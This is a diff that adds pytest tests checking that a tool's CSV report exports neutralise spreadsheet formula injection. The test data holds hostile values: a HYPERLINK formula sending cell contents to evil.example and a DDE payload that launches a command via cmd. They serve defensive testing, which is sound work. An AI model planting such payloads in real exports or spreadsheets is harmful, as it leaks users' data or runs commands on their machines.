@@ -314,3 +314,60 @@ def test_projections_status_and_rebuild(demo: Journey) -> None:
     assert "leadership: folded" in both and "index: folded" in both and "(ok)" in both
     assert demo("projections", "rebuild", "--jobs", "0", code=1).stderr.startswith(
         "error: usage: ")
+
+
+# Text a spreadsheet would run as a formula (OWASP "CSV injection"), in every kind of
+# cell a CSV has: names, titles, tags, texts, prompts and the ids a client chooses.
+LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+CALC = "+cmd|'/C calc'!A0"
+HOSTILE = [
+    ("MemberRegistered", "ana", {"member_id": "ana", "display_name": LINK}),
+    ("NetworkCreated", "ana", {"network_id": "net", "name": "Net"}),
+    ("CommunityFounded", "ana", {"community_id": "-c1", "name": "@Hostile", "domain": "SEL",
+                                 "network_id": "net"}),
+    ("MemberJoined", "ana", {"community_id": "-c1", "member_id": "ana", "role": "facilitator"}),
+    ("SessionLed", "ana", {"community_id": "-c1", "session_id": "@s1", "leaders": ["ana"],
+                           "title": CALC, "format": "meeting"}),
+    ("ResourceShared", "ana", {"community_id": "-c1", "resource_id": "=r1", "member_id": "ana",
+                               "title": LINK, "kind": "link", "tags": ["@SUM(1+1)"]}),
+    ("ReflectionRecorded", "ana", {"reflection_id": "rf-1", "member_id": "ana",
+                                   "text": "-1+1", "prompt": "\t=1+1",
+                                   "community_id": "-c1", "visibility": "community",
+                                   "value_cycle": "immediate"}),
+]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory) -> Journey:
+    journey = Journey(tmp_path_factory.mktemp("hostile"))
+    journey("init")
+    for type_name, actor, data in HOSTILE:
+        journey("record", type_name, "--actor", actor, "--data", json.dumps(data),
+                "--occurred-at", "2024-03-05T14:00:00Z")
+    return journey
+
+
+@pytest.mark.parametrize("args, neutralised, numbers", [
+    (("leadership", "--network", "net"), {"id": "'-c1"},
+     {"enrolled": "1", "sessions": "1", "breadth": "1.0"}),
+    (("sessions", "--community=-c1"), {"community_id": "'-c1", "session_id": "'@s1"},
+     {"position": "5", "attendees": "0"}),
+    (("portfolio", "--member", "ana"), {"community_id": "'-c1", "summary": "'" + CALC},
+     {"position": "5"}),
+    (("resources", "--community=-c1"),
+     {"resource_id": "'=r1", "title": "'" + LINK, "tags": "'@SUM(1+1)"},
+     {"reuses_by_others": "0"}),
+    (("evaluation", "--community=-c1"),
+     {"community_id": "'-c1", "member_name": "'" + LINK, "text": "'-1+1",
+      "prompt": "'\t=1+1"}, {}),
+])
+def test_no_csv_cell_starts_like_a_formula(hostile: Journey, args, neutralised,
+                                           numbers) -> None:
+    table = list(csv.reader(io.StringIO(hostile("export-csv", "--report", *args).output)))
+    header, rows = table[0], table[1:]
+    cells = [dict(zip(header, row)) for row in rows]
+    first = next(c for c in cells if all(c[k] == v for k, v in neutralised.items()))
+    assert all(first[k] == v for k, v in numbers.items()), first
+    # Nothing a spreadsheet would run is left anywhere in the file.
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@",
+                                                                     "\t", "\r")]
